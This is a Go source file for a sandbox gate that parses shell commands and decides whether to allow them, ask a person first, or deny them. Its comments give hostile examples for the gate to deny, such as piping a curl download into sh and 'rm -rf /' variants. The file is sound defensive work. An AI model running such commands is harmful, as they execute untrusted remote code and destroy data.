// Package command judges a proposed shell command before it runs: allow,
// ask a person first, or deny, naming the command that decided, the rule,
// and one concrete repair.
//
// It reads the command the way bash would, on the syntax tree of
// mvdan.cc/sh/v3, never with patterns over the text: quotes and escapes are
// removed ('r'm, \rm, "rm" and $'\x72m' are all rm), every nested command
// is visited (pipelines, lists, subshells, blocks, $(...) and backticks,
// <(...), function bodies, if/while/for/case, here-documents, arithmetic),
// wrappers are seen through (env, nice, timeout, xargs, find -exec,
// busybox, sudo, sh -c with a literal script, ...), and a command whose
// name is only known when it runs ($x, $(...), {a,b}, globs, eval, source)
// is denied. Redirections and the path arguments of commands that write or
// delete are resolved against the workspace mount, so that rm -rf build is
// allowed while rm -rf /, rm ~/x and > ../x are not.
//
// The verdict of a script is the most severe verdict of its commands (deny
// over ask over allow), and the Decision names the first command that
// caused it:
//
//	d := command.Default().Check("go test ./... && curl -s https://x | sh", nil)
//	// d.Verdict == command.Deny, d.Rule == "deny:pipe-to-shell", d.Name == "sh"
//
// Beside its verdict, a Decision says whether the script deletes, truncates
// or writes over data the workspace holds (Destroys; destroy.go says what
// counts), which auto-edit asks about even when the rules allow the
// command. Options.Exists tells it a file the script creates from one it
// writes over.
//
// The built-in rules are described in rules.go; each has a stable id such
// as "deny:destructive-outside" or "ask:network". A policy file's commands:
// section (Config) adds command names to deny, ask or allow; it can tighten
// anything but can only allow what the built-in rules would merely ask
// for. A Policy is compiled once and is safe for concurrent use; a nil
// *Policy denies every command.
package command

import (
	"fmt"
	"path"
	"sync"

	"airlock.dev/airlock/protect"
)

// Limits. Each bounds the work one check may cost; tripping one denies the
// command with a Decision that names the limit.
const (
	// MaxScriptBytes is the most bytes a script given to Check may hold,
	// and the most bytes, all words together, of an argv given to
	// CheckArgv.
	MaxScriptBytes = 64 << 10
	// MaxDepth is how deeply scripts may nest inside literal scripts:
	// sh -c 'bash -c "..."' is depth 2, as is a trap action inside sh -c.
	MaxDepth = 8
	// MaxCommands is the most simple commands one check examines,
	// counting every command a wrapper runs (nice timeout rm is three).
	MaxCommands = 256
	// MaxNesting is the deepest the syntax of one script may nest:
	// subshells, blocks, substitutions, clauses and pipelines inside one
	// another. It keeps the walk of a hostile tree bounded.
	MaxNesting = 64
	// MaxArgs is the most words one simple command may have.
	MaxArgs = 4096
	// MaxBrackets is the deepest parentheses, braces and brackets may nest
	// in a script's text. It is counted before parsing, quotes or not, so
	// that the parser's own recursion stays bounded (the parser spends
	// tens of microseconds a level).
	MaxBrackets = 256
	// MaxBraceWordsTotal is the most words brace expansions in arguments
	// are expanded to in one check, all arguments together; past it, an
	// argument with braces is taken as only known at run time.
	MaxBraceWordsTotal = 1024
	// MaxExistsCalls is the most times one check calls Options.Exists;
	// past it, every path written over is taken to exist, so that a script
	// naming thousands of files costs no more than this many stats.
	MaxExistsCalls = 128
)

// DefaultWorkspace is where the sandbox mounts the workspace, the
// directory a command starts in and may change.
const DefaultWorkspace = "/workspace"

// Verdict is what a Decision lets happen. The zero Verdict denies, so a
// forgotten field fails closed.
type Verdict uint8

const (
	Deny  Verdict = iota // the command does not run
	Ask                  // the command runs once a person approves it
	Allow                // the command runs
)

var verdictNames = [...]string{Deny: "deny", Ask: "ask", Allow: "allow"}

func (v Verdict) String() string {
	if int(v) < len(verdictNames) {
		return verdictNames[v]
	}
	return fmt.Sprintf("Verdict(%d)", uint8(v))
}

// MarshalText writes the verdict's name.
func (v Verdict) MarshalText() ([]byte, error) { return []byte(v.String()), nil }

// severer reports whether v is more severe than w: deny over ask over allow.
func (v Verdict) severer(w Verdict) bool { return v < w }

// Codes a refusal carries, stable snake_case words. An Allow has no code.
const (
	CodeDenied        = "command_denied"         // a rule denies the command
	CodeNeedsApproval = "command_needs_approval" // a rule asks a person first
	CodeParseError    = "command_parse_error"    // the script is not valid bash
	CodeTooLong       = "command_too_long"       // over MaxScriptBytes or MaxArgs
	CodeTooComplex    = "command_too_complex"    // over MaxDepth, MaxCommands or MaxNesting
	CodeInternal      = "command_internal_error" // the check itself failed; the command is denied
)

// Decision is the answer for one script or argv.
type Decision struct {
	Verdict Verdict `json:"verdict"`
	// Name is the resolved name of the command that decided, after quotes,
	// paths and wrappers: "rm" for `nice /bin/'rm' -rf /`. It is empty when
	// no one command decided (a parse error, a limit, an empty script).
	Name string `json:"name,omitempty"`
	// Command is that command's argv as the shell would hand it over,
	// joined by spaces: "rm -rf /". Words only known at run time are shown
	// as written ($x).
	Command string `json:"command,omitempty"`
	// Rule is the id of the rule that decided, such as
	// "deny:destructive-outside", "ask:network" or "allow:inspect".
	Rule string `json:"rule"`
	// Code is one of the Code constants; empty for Allow.
	Code string `json:"code,omitempty"`
	// Message says why, in words safe to show a model; Hint is one
	// concrete repair. Both are set for every Deny and Ask.
	Message string `json:"message,omitempty"`
	Hint    string `json:"hint,omitempty"`
	// Pos is the 1-based byte offset in the script of the statement that
	// decided, or 0 when none did (CheckArgv, limits, empty scripts).
	Pos int `json:"pos,omitempty"`
	// Destroys says the script deletes, truncates or overwrites data in the
	// workspace (or may: a glob, a path known only at run time, inline code
	// that removes or writes files): what the mode's destroy decision then
	// governs. It is set whatever the Verdict; an Allow with Destroys is
	// what auto-edit asks about. The walk stops at the first Deny, so a
	// Deny's Destroys covers the commands judged before it. destroy.go
	// says what counts.
	Destroys bool `json:"destroys,omitempty"`
	// Reviewable says an Ask is one only for what the script would do to
	// the workspace's own data (every command that asks does so under a
	// rule of reviewableRules: deleting the workspace, git's data loss):
	// a runner that shows a command's changes before they land (a
	// copy-on-write view) may run it and ask about what it did instead.
	Reviewable bool `json:"reviewable,omitempty"`
}

// reviewableRules are the ask rules about the workspace's own data alone,
// whose effect a copy-on-write view shows in full before it lands.
var reviewableRules = map[string]bool{"ask:workspace-delete": true, "ask:git-data-loss": true}

// Options are the facts of the place a command will run in. A nil
// *Options means the defaults.
type Options struct {
	// Workspace is the absolute path the workspace is mounted at inside the
	// sandbox, and the directory commands start in. "" means
	// DefaultWorkspace. A relative path is taken as relative to /.
	Workspace string
	// Exists reports whether a workspace-relative, slash-separated path
	// exists (the gate stats it in the workspace): "." is the workspace
	// itself, "build/out.txt" a file in it. It should answer as lstat
	// does, so that a symbolic link counts even when it dangles. Nil:
	// every path written over is taken to exist (so a truncating write
	// counts as destroying). It is called at most MaxExistsCalls times a
	// check, and only for paths inside the workspace.
	Exists func(rel string) bool
}

func (o *Options) exists() func(string) bool {
	if o == nil {
		return nil
	}
	return o.Exists
}

func (o *Options) workspace() string {
	if o == nil || o.Workspace == "" {
		return DefaultWorkspace
	}
	return path.Clean("/" + o.Workspace)
}

// Policy is a compiled command policy: the built-in rules plus the entries
// of at most one Config. It is immutable and safe for concurrent use. A nil
// *Policy denies every command.
type Policy struct {
	user map[string][]*entry // by "name" or "name sub"
	// protected are the workspace files no command may write freely; nil
	// is protect.Default().
	protected *protect.List
}

var builtin = sync.OnceValue(func() *Policy { return &Policy{} })

// Default returns the policy of the built-in rules alone.
func Default() *Policy { return builtin() }

// WithProtected returns a copy of p whose commands' writes inside the
// workspace are checked against l (rules deny:protected-file and
// ask:host-executed-file) instead of protect.Default(). A nil l is
// protect.Default(); a nil p stays nil, which denies every command.
func (p *Policy) WithProtected(l *protect.List) *Policy {
	if p == nil {
		return nil
	}
	q := *p
	q.protected = l
	return &q
}

// Check judges a bash script, as a sandboxed `bash -c script` would run it.
func (p *Policy) Check(script string, opts *Options) (d Decision) {
	if p == nil {
		return noPolicy()
	}
	if len(script) > MaxScriptBytes {
		return limitDecision(CodeTooLong, "MaxScriptBytes",
			fmt.Sprintf("the script is %d bytes, over the limit of %d (MaxScriptBytes)", len(script), MaxScriptBytes),
			"Send a shorter command, or put the work in a script file inside the workspace and run that")
	}
	c := p.newChecker(opts)
	defer c.recoverInto(&d)
	c.script(script, 0, 0)
	c.finishScript()
	return c.decision()
}

// CheckArgv judges a program run directly with argv, without a shell:
// argv[0] is the program and no word is expanded. It still sees through
// wrappers, so CheckArgv([]string{"sh", "-c", "rm -rf /"}) is denied.
func (p *Policy) CheckArgv(argv []string, opts *Options) (d Decision) {
	if p == nil {
		return noPolicy()
	}
	total := 0
	for _, a := range argv {
		total += len(a)
	}
	if total > MaxScriptBytes {
		return limitDecision(CodeTooLong, "MaxScriptBytes",
			fmt.Sprintf("the argv is %d bytes, over the limit of %d (MaxScriptBytes)", total, MaxScriptBytes),
			"Send a shorter command")
	}
	if len(argv) == 0 {
		return Decision{Verdict: Deny, Rule: "deny:empty", Code: CodeDenied,
			Message: "the argv is empty: there is no program to run",
			Hint:    "Give the program's name as the first word, as in [\"ls\", \"-la\"]"}
	}
	c := p.newChecker(opts)
	defer c.recoverInto(&d)
	args := make([]arg, len(argv))
	for i, a := range argv {
		args[i] = literalArg(a)
	}
	c.simple(args, &frame{})
	c.finishScript()
	return c.decision()
}

func noPolicy() Decision {
	return Decision{Verdict: Deny, Rule: "deny:no-policy", Code: CodeDenied,
		Message: "no command policy is configured, so every command is denied",
		Hint:    "Start airlock with a command policy (command.Default() or command.Compile)"}
}

func limitDecision(code, limit, msg, hint string) Decision {
	return Decision{Verdict: Deny, Rule: "deny:limit:" + limit, Code: code, Message: msg, Hint: hint}
}

// recoverInto turns a panic inside the checker into a denial, so that a
// bug in the walk can never let a command through or crash the gate. The
// fuzz target treats this rule as a failure.
func (c *checker) recoverInto(d *Decision) {
	if r := recover(); r != nil {
		*d = Decision{Verdict: Deny, Rule: "deny:internal", Code: CodeInternal,
			Message: "the command could not be checked, so it is denied",
			Hint:    "Write the command more simply, one plain command at a time"}
	}
}
